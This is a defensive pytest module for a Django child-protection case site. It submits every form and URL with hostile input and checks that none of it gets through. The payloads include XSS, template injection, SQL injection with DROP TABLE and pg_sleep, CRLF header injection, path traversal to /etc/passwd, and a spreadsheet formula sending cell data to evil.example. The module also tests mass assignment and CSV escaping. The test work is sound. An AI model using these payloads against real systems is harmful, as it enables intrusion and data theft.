"""Hostile input in any field of any form of the site."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable, Iterator, Mapping
from http.cookies import SimpleCookie
from types import SimpleNamespace
from typing import Any, NamedTuple

import pytest
from django import forms
from django.db import connection, transaction
from django.db.models import Model
from django.forms.formsets import BaseFormSet
from django.test import Client
from django.urls import reverse

import cpconf.urls  # noqa: F401 - brings in every form
from accounts.signin.forms.passwords import LinkForm
from families.models import Family
from govuk.bound_fields import GovukBoundField
from govuk.forms import GovukBaseForm, GovukForm, GovukModelForm
from govuk.formsets import GovukFormSet
from govuk.spreadsheets import harmless
from tests.access_table import table
from tests.cpconf.page_rules import leads_away
from tests.cpconf.typed_forms import Sent, forms_on
from tests.factories import UserFactory
from tests.reports.story import NOW
from tests.stories import once_per_module
from tests.told import addresses

# All beside the world that most tests here read: it would have to be told again after a test without it.
pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("still_world")]

MARK = "zaunkoenig"
MARKUP = f"{MARK}\"'><script>alert({MARK!r})</script><img src=x onerror=alert(1)>&lt;b&gt;"
TEMPLATE = "{{ 7|add:42 }}{% include 'base.html' %}${7*7}#{7*7}<%= 7*7 %>"
STATEMENT = "'; DROP TABLE families_person; --\\'); SELECT pg_sleep(9); --"
HEADER = "name\r\nSet-Cookie: planted=1\r\nLocation: https://evil.example/\r\n\r\n<html>"
PATH = "../../../../etc/passwd\\..\\..\\windows\\win.ini%2e%2e%2f"
FORMULA = '=HYPERLINK("https://evil.example/"&A1,"x")|cmd'
# Signs that are never meant in a text.
UNMEANT = "\u00ad\u200b\u200e\u202e\u2060\u2066\ufeff\u3164"
UNSEEN = f"a\x00b\x08c\u202egnp.exe{UNMEANT}\u0301\u0301 👩‍👩‍👧‍👦 \U0001f1ec\U0001f1e7 ﷽ \ud7ff"
# Within a word, which is a mailbox so that those are accepted too.
IN_A_WORD = f"{MARK[:4]}{UNMEANT}{MARK[4:]}@home.example"
LONG = "x" * 120_000
HOSTILE = {
    "markup, template, statement": f"{MARKUP} {TEMPLATE} {STATEMENT}",
    "formula, header, path": f"{FORMULA} {HEADER} {PATH}",
    "what can't be seen": f"{UNSEEN} {IN_A_WORD}",
    "very long": LONG,
}
# What is written about each request, and about each look.
WRITTEN_BY_EACH = {
    "accounts_accessevent", "accounts_sentform", "django_session", "families_whereaboutsreveal", "pghistory_context",
}  # fmt: skip
# Users to try first for a page: those who may open most.
WHO = ("own coordinator", "own chair", "own social worker", "own team manager", "service manager", "administrator")


def forms_in(context: Any) -> Iterator[forms.BaseForm]:
    """Return every form a page was rendered with, including those within formsets."""
    seen: set[int] = set()
    for layer in context or []:
        for thing in list(getattr(layer, "flatten", lambda layer=layer: layer)().values()):
            found = list(thing.forms) if isinstance(thing, BaseFormSet) else [thing]
            for form in found:
                if isinstance(form, forms.BaseForm) and id(form) not in seen:
                    seen.add(id(form))
                    yield form


def filled(form: forms.BaseForm, text: str) -> dict[str, Any]:
    """Return hostile data for a form: valid choices and days, and ``text`` in every text field."""
    data: dict[str, Any] = {}
    for bound in form:
        name, field = bound.html_name, bound.field
        if isinstance(field, forms.FileField):
            continue
        if isinstance(field, forms.MultiValueField) or hasattr(field.widget, "widgets"):
            parts = {"day": "16", "month": "12", "year": "2026"}
            data |= {f"{name}_{part}": value for part, value in parts.items()}
            continue
        choices = [value for value, _ in _flat(getattr(field, "choices", []) or []) if str(value)]
        if choices:
            many = isinstance(field, forms.MultipleChoiceField | forms.ModelMultipleChoiceField)
            first = str(choices[0].value if hasattr(choices[0], "value") else choices[0])
            data[name] = [first] if many else first
        elif isinstance(field, forms.IntegerField | forms.DecimalField):
            data[name] = str(bound.value() or 1)
        elif isinstance(field, forms.BooleanField):
            data[name] = "on"
        elif IN_A_WORD in text and isinstance(field, forms.EmailField):
            data[name] = IN_A_WORD
        elif IN_A_WORD in text and (getattr(field, "max_length", None) or len(text)) < len(text):
            data[name] = UNSEEN
        else:
            data[name] = text
    return data


def _flat(choices: Any) -> Iterator[tuple[Any, Any]]:
    for choice in choices:
        value, label = (choice[0], choice[1]) if isinstance(choice, tuple | list) else (choice.value, choice)
        if isinstance(label, tuple | list):
            yield from _flat(label)
        else:
            yield value, label


def undone(act: Any, *clients: Client) -> Any:
    """Return what ``act`` answers, undoing what it did to the database and to the cookies of ``clients``."""
    before, cookies = transaction.savepoint(), [SimpleCookie(client.cookies) for client in clients]
    try:
        return act()
    finally:
        transaction.savepoint_rollback(before)
        for client, kept in zip(clients, cookies, strict=True):
            client.cookies = kept


def clients(world: SimpleNamespace) -> dict[str, Client]:
    found = {who: Client() for who in WHO}
    for who, client in found.items():
        client.force_login(world.actors[who])
    return found


class Page(NamedTuple):
    """A page with a form, as the first user who may open it got it."""

    name: str
    address: str
    client: Client
    forms: list[forms.BaseForm]
    html: str


@once_per_module(at=NOW)
def forms_of_the_site(still_world: SimpleNamespace) -> list[Page]:
    """Every page with a form, with the first user who may open it; found once, because it is slow."""
    found = []
    signed_in, may_open = clients(still_world), table()
    for name, address in addresses(still_world).items():
        for client in (client for who, client in signed_in.items() if who in may_open[name][0]):
            answer = undone(lambda c=client, a=address: c.get(a))
            if answer.status_code == 405 or "html" not in answer.get("Content-Type", "html"):
                # Files, and addresses that only take forms, are the same for whoever asks next.
                break
            on_page = list(forms_in(answer.context)) if answer.status_code == 200 else []
            if on_page:
                found.append(Page(name, address, client, on_page, answer.content.decode()))
                break
    assert len(found) > 60
    return found


FORMS = re.compile(r"<form\b.*?</form>", re.DOTALL)
HIDDEN = re.compile(r'<input type="hidden" name="([^"]*" value="[^"]*)"')


def wrong_with(answer: Any) -> list[str]:
    """Return what a page must never contain, whatever was entered."""
    page = answer.content.decode(errors="replace") if not answer.streaming else ""
    faults = []
    if answer.status_code >= 500:
        faults.append("fault")
    if f"<script>alert({MARK!r})" in page or "<img src=x onerror" in page:
        faults.append("markup")
    if MARK in page and re.search(r"(?<!7\|add:)\b49\b(?! ?(px|%))", page.partition(MARK)[2][:200]):
        faults.append("template")
    if "planted" in answer.cookies or leads_away(answer.get("Location", "/")):
        faults.append("header")
    if "root:x:0" in page or "; for 16-bit app support" in page:
        faults.append("path")
    if "\x00" in page and not answer["Content-Type"].startswith("application/pdf"):
        faults.append("unseen")
    if any(len(set(hidden)) < len(hidden) for hidden in map(HIDDEN.findall, FORMS.findall(page))):
        faults.append("a hidden field twice")
    if accepted_without_leading_on(answer):
        faults.append("accepted without leading on")
    return faults


# Pages that show a form whose own address is another; this one only shows it again.
SENT_ELSEWHERE = frozenset({"meetings:see-correction", "meetings:see-move", "plans:see-move"})


def accepted_without_leading_on(answer: Any) -> bool:
    """Return whether a form was accepted and answered with a page, so that sending.js would send it twice."""
    if answer.request["REQUEST_METHOD"] != "POST" or answer.status_code != 200:
        return False
    if answer.resolver_match.view_name in SENT_ELSEWHERE:
        return False
    posted = (form for form in forms_in(answer.context) if isinstance(form, GovukBaseForm) and form.is_bound)
    sent = [form for form in posted if form.helper.form_method == "post"]
    if any(isinstance(bound.field.widget, forms.PasswordInput) for form in sent for bound in form):
        return False  # never sent by the script
    accepted = bool(sent) and not any(form.errors for form in sent)
    return accepted and not any(form.answers_with_a_page for form in sent)


def texts_in(value: Any) -> Iterator[str]:
    """Return every text of a statement's parameters, those of JSON columns included."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, Mapping):
        yield from (text for pair in value.items() for part in pair for text in texts_in(part))
    elif isinstance(value, list | tuple | set):
        yield from (text for part in value for text in texts_in(part))
    elif hasattr(value, "obj"):
        yield from texts_in(value.obj)


class Carried:
    """Reads every value that a page's statements carry: where a text arrived, and where with signs never meant."""

    def __init__(self) -> None:
        self.arrived: set[str] = set()
        self.unmeant: set[tuple[str, str]] = set()

    def of(self, name: str) -> Any:
        def read(execute: Any, sql: str, params: Any, many: bool, context: Any) -> Any:
            told = "".join(texts_in(params))
            if MARK in told:
                self.arrived.add(name)
            if set(told) & set(UNMEANT) or any(f"\\u{ord(sign):04x}" in told for sign in UNMEANT):
                self.unmeant.add((name, sql[:60]))
            return execute(sql, params, many, context)

        return connection.execute_wrapper(read)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_no_form_of_the_site_lets_hostile_text_through(world, forms_of_the_site, text):
    """Submits each form of each page; response, redirect target and page stay harmless, and so do the statements."""
    found, sent, carried = [], 0, Carried()

    def send(client: Client, address: str, data: dict[str, Any]) -> list[Any]:
        answer = client.post(address, data)
        location = answer.get("Location", "")
        # What was refused is on the page that refuses it.
        follow = (location.partition("#")[0], address) if location.startswith("/") else ()
        return [answer, *(client.get(page) for page in dict.fromkeys(follow))]

    for name, address, client, on_page, _ in forms_of_the_site:
        data: dict[str, Any] = {}
        for form in on_page:
            data |= filled(form, text)
        with carried.of(name):
            answers = undone(lambda c=client, a=address, d=data: send(c, a, d), client)
        sent += 1
        found += [(name, fault) for answer in answers for fault in wrong_with(answer)]
    assert (found, sent > 60, Family.objects.exists()) == ([], True, True)
    assert (carried.unmeant, len(carried.arrived) > 40 or MARK not in text.replace(UNMEANT, "")) == (set(), True)


@pytest.mark.parametrize("who", ["own coordinator", "service manager"])
def test_no_address_lets_hostile_text_through_or_is_led_to_another_site(world, who):
    text = "".join(HOSTILE.values())[:3000]
    asked = dict.fromkeys(("q", "page", "name", "born_on_day", "team", "sort", "on", "kind", "period"), text)
    asked |= dict.fromkeys(("next", "return", "back", "url", "redirect", "to"), "https://evil.example/")
    client, may_open = clients(world)[who], table()
    found = [
        (name, fault)
        for name, address in addresses(world).items()
        if who in may_open[name][0]
        for fault in wrong_with(undone(lambda a=address: client.get(a, asked)))
    ]
    assert found == []


def subclasses(kind: type) -> set[type]:
    return {kind} | {grandchild for child in kind.__subclasses__() for grandchild in subclasses(child)}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE.keys())
def test_every_form_class_validates_hostile_text_without_crashing(text):
    """Includes forms of pages that this world does not show."""
    tried, text = 0, text.removesuffix(IN_A_WORD)
    for kind in sorted(subclasses(GovukForm) | subclasses(GovukModelForm), key=lambda kind: kind.__qualname__):
        if kind in {GovukForm, GovukModelForm}:
            continue
        try:
            empty = kind()
        except (TypeError, KeyError):
            # Needs its page or person as context; the walk over the pages has submitted it.
            continue
        form = kind(data=filled(empty, text))
        if hasattr(form, "user"):
            form.user = UserFactory()
        form.is_valid()
        tried += 1
        cleaned = [value for value in form.cleaned_data.values() if isinstance(value, str)]
        assert [value for value in cleaned if "\x00" in value or "\r" in value] == [], kind
    assert tried > 15


def test_every_form_of_the_site_is_one_that_cleans():
    """Ours all are; the sign-in library's own are never shown, and one of ours takes only what is in a link."""
    ours = [
        kind
        for kind in subclasses(forms.BaseForm)
        if not kind.__module__.startswith(("django.", "allauth.", "tests.")) and kind is not LinkForm
    ]
    odd = [kind for kind in ours if not issubclass(kind, GovukBaseForm)]
    odd += [kind for kind in ours if kind.bound_field_class is not GovukBoundField and kind not in odd]
    odd += [
        kind
        for kind in subclasses(BaseFormSet)
        if not kind.__module__.startswith(("django.", "allauth.", "tests.")) and not issubclass(kind, GovukFormSet)
    ]
    assert ([kind.__qualname__ for kind in odd], len(ours) > 100) == ([], True)


def test_every_password_has_a_name_that_keeps_it_as_typed():
    named = {
        name
        for kind in subclasses(GovukBaseForm)
        for name, field in getattr(kind, "base_fields", {}).items()
        if isinstance(field.widget, forms.PasswordInput)
    }
    assert ([name for name in named if "password" not in name], bool(named)) == ([], True)


# The same form twice


@pytest.fixture
def count_rows(db: None) -> Iterator[Callable[[], dict[str, int]]]:
    """Return what counts the rows of every table, by one statement that is planned once."""
    tables = connection.introspection.table_names()
    counts = " UNION ALL ".join(f"SELECT '{table}', count(*) FROM \"{table}\"" for table in tables)  # noqa: S608 (no input)

    def count() -> dict[str, int]:
        with connection.cursor() as cursor:
            cursor.execute("EXECUTE rows_of_every_table")
            return dict(cursor.fetchall())

    with connection.cursor() as cursor:
        cursor.execute(f"PREPARE rows_of_every_table AS {counts}")
        yield count
        cursor.execute("DEALLOCATE rows_of_every_table")


def test_no_form_of_the_site_adds_anything_when_it_is_sent_again(world, forms_of_the_site, count_rows):
    """Sends each form of each page as the browser would, and once more: the second adds no row to any table."""
    before = count_rows()

    def more_after(act: Any, before: dict[str, int]) -> tuple[Any, set[str], dict[str, int]]:
        answer, after = act(), count_rows()
        return answer, {table for table in after if after[table] > before.get(table, 0)} - WRITTEN_BY_EACH, after

    def send_twice(client: Client, sent: Sent) -> tuple[bool, set[str]]:
        answer, added, once = more_after(lambda: client.post(*sent), before)
        if not added:
            return False, set()
        again, more, _ = more_after(lambda: client.post(*sent), once)
        led = (answer.status_code, answer.get("Location")) == (again.status_code, again.get("Location"))
        return True, more if led else more | {"led elsewhere"}

    found, adding, tried = [], set(), set()
    for page in forms_of_the_site:
        for sent in forms_on(page.html, page.address):
            where = (sent.action, *sent.data)
            if where in tried:
                continue
            tried.add(where)
            cookies = page.client.cookies.copy()
            added, more = undone(lambda p=page, s=sent: send_twice(p.client, s))
            page.client.cookies = cookies
            adding |= {where} if added else set()
            found += [(sent.action, table) for table in more]
    assert (found, len(adding) > 50) == ([], True)


# Mass assignment


def test_fields_that_a_form_does_not_show_are_ignored(forms_of_the_site, world):
    """Submits every column of every model with each form; author, time, owner and state do not change."""
    planted = {
        "id": "987654321", "pk": "987654321", "authority": str(world.elsewhere.pk), "is_superuser": "1", "is_staff": "1",
        "state": "released", "status": "closed", "released_at": "2020-01-01", "decided_by": "1", "begun_by": "1",
        "by": "1", "user": "1", "submitted_by": "1", "agreed_by": "1", "agreed_at": "2020-01-01", "sealed_at": "2020-01-01",
        "restricted": "on", "withdrawn_at": "2020-01-01", "conference": "987654321", "family": "987654321",
        "team": "987654321", "case_number": "planted", "recorded_by": "1", "uploaded_by": "1", "scan": "clean",
    }  # fmt: skip
    kept = {
        world.family._meta.model: world.family.pk,
        type(world.conference): world.conference.pk,
        type(world.draft): world.draft.pk,
    }
    found = []
    for name, address, client, on_page, _ in forms_of_the_site:
        shown = {bound.html_name for form in on_page for bound in form}
        extra = {key: value for key, value in planted.items() if key not in shown}
        was = rows(kept)
        now = undone(lambda c=client, a=address, e=extra: (c.post(a, e), rows(kept))[1], client)
        found += [(name, change) for change in planted_in(was, now, extra)]
    assert found == []


def rows(kept: dict[type[Model], int]) -> dict[type[Model], dict[str, Any]]:
    return {model: model.objects.values().get(pk=pk) for model, pk in kept.items()}


def planted_in(was: dict, now: dict, extra: dict[str, str]) -> list[str]:
    """Return columns that changed although the form does not show them."""
    return [
        f"{model.__name__}.{column}"
        for model, row in now.items()
        for column, value in row.items()
        if value != was[model][column] and column.removesuffix("_id") in extra
    ]


@pytest.mark.parametrize("version", ["0", "-1", "99999999999999999999", "abc", "1; DROP TABLE x", ""])
def test_a_tampered_version_changes_nothing_and_breaks_nothing(world, version):
    section, client = world.section, clients(world)["own coordinator"]
    address = reverse("reports:write-report", args=[world.conference.pk, world.of.tutor.pk])
    before = section.text
    typed = {"heading": "current-risks", "text": "Something else", "nature": "fact", "version": version}
    data = {f"s{section.pk}_{part}": value for part, value in typed.items()}
    answer = client.post(address, data)
    section.refresh_from_db()
    assert (answer.status_code < 500, section.text) == (True, before)


def test_hidden_fields_with_numbers_of_another_council_are_refused(world, forms_of_the_site):
    """Replaces each choice and hidden number with a non-existent one: no crash, nothing written."""
    found = []
    for name, address, client, on_page, _ in forms_of_the_site:
        data: dict[str, Any] = {}
        for form in on_page:
            data |= {key: ["987654321"] for key in filled(form, "x")}
        answer = undone(lambda c=client, a=address, d=data: c.post(a, d), client)
        if answer.status_code >= 500:
            found.append(name)
    assert found == []


# Files for spreadsheets


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", " =", "＝"])
def test_no_spreadsheet_cell_starts_a_formula(start):
    assert str(harmless(f"{start}1+1")).startswith("'")


def test_every_spreadsheet_file_escapes_its_cells(world):
    world.robin.person.given_name = FORMULA
    world.robin.person.save()
    found, files = [], 0
    for who in world.actors:
        client = Client()
        client.force_login(world.actors[who])
        for name, address in addresses(world).items():
            if not re.search(r"csv|export|table|download", name + address):
                continue
            answer = undone(lambda c=client, a=address: c.get(a))
            if answer.get("Content-Type", "").startswith("text/csv"):
                files += 1
                told = csv.reader(io.StringIO(answer.content.decode("utf-8-sig")))
                found += [(name, cell) for row in told for cell in row if cell.lstrip().startswith(("=", "@", "+"))]
    assert (found, files > 0) == ([], True)
